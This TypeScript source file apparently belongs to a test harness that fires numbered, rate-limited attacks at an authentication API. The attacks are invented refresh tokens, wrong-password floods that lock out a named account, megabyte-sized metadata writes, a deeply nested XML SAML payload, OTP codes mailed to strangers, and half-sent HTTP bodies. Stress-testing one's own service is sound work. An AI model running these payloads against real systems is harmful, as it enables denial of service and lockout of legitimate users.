import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { connect } from 'node:net';
import { register } from './account.ts';
import { statusOf, type Attack } from './attack.ts';
import type { Network } from './network.ts';

const tokenPath = '/auth/v1/token?grant_type=';

/** A request whose body breaks off half-way. */
async function breakOff({ target, headers }: Network): Promise<string> {
  const { hostname, port } = new URL(target.url);
  const socket = connect(Number(port), hostname);
  await once(socket, 'connect');
  const lines = Object.entries({ ...headers, apikey: target.publishableKey, 'content-length': '5000' });
  const head = lines.map(([name, value]) => `${name}: ${value}\r\n`).join('');
  socket.write(`POST ${tokenPath}password HTTP/1.1\r\nhost: ${hostname}\r\n${head}\r\n{"email":"`);
  socket.end();
  socket.resume();
  await once(socket, 'close');
  return 'broken off';
}

type Send = (network: Network) => Promise<number | string>;

/** An attack whose requests need no preparation. */
function repeat(name: string, perSecond: number, send: Send): Attack {
  return { name, perSecond, begin: async (network) => () => send(network) };
}

const inventedRefreshToken: Send = async (network) => {
  const headers = { authorization: `Bearer ${network.target.publishableKey}` };
  const body = { refresh_token: 'abcdefghijkl' };
  return statusOf(await network.post(`${tokenPath}refresh_token`, body, headers));
};

const wrongPassword = async (network: Network, email: string): Promise<number> =>
  statusOf(await network.post(`${tokenPath}password`, { email, password: 'wrong sentence 1' }));

const codeForStranger: Send = async (network) =>
  statusOf(await network.post('/auth/v1/otp', { email: `${randomUUID()}@example.com` }));

const largeMetadata: Attack = {
  name: 'V8 a megabyte of user_metadata',
  perSecond: 0.3,
  begin: async (network) => {
    const { authorization } = await register(network);
    const headers = { ...authorization, 'content-type': 'application/json' };
    return async (attempt) => {
      const body = JSON.stringify({ data: { [`key${attempt}`]: 'x'.repeat(1_000_000) } });
      return statusOf(await network.send('/auth/v1/user', { method: 'PUT', headers, body }));
    };
  },
};

const nestedXml: Attack = {
  name: 'V22 300 KB of nested XML',
  perSecond: 0.5,
  begin: async (network) => {
    const xml = Buffer.from(`${'<a>'.repeat(50_000)}${'</a>'.repeat(50_000)}`).toString('base64');
    const body = new URLSearchParams({ SAMLResponse: xml, RelayState: randomUUID() });
    return async () =>
      statusOf(await network.send('/auth/v1/sso/saml/acs', { method: 'POST', body, redirect: 'manual' }));
  },
};

/**
 * Attacks on `auth/v1` that need no account.
 * @param ownerEmail the address of an account that strangers want to lock out
 */
export function attacksOnAccounts(ownerEmail: string): readonly Attack[] {
  return [
    repeat('V3, V12 invented refresh tokens', 20, inventedRefreshToken),
    repeat('V3 sign-ins with accounts that do not exist', 2, (network) =>
      wrongPassword(network, `${randomUUID()}@example.com`),
    ),
    largeMetadata,
    repeat('V16 wrong passwords for the account of a tablet', 0.2, (network) =>
      wrongPassword(network, ownerEmail),
    ),
    repeat('V20 codes to addresses of strangers', 0.1, codeForStranger),
    nestedXml,
    repeat('V23.8 bodies that break off', 2, breakOff),
  ];
}
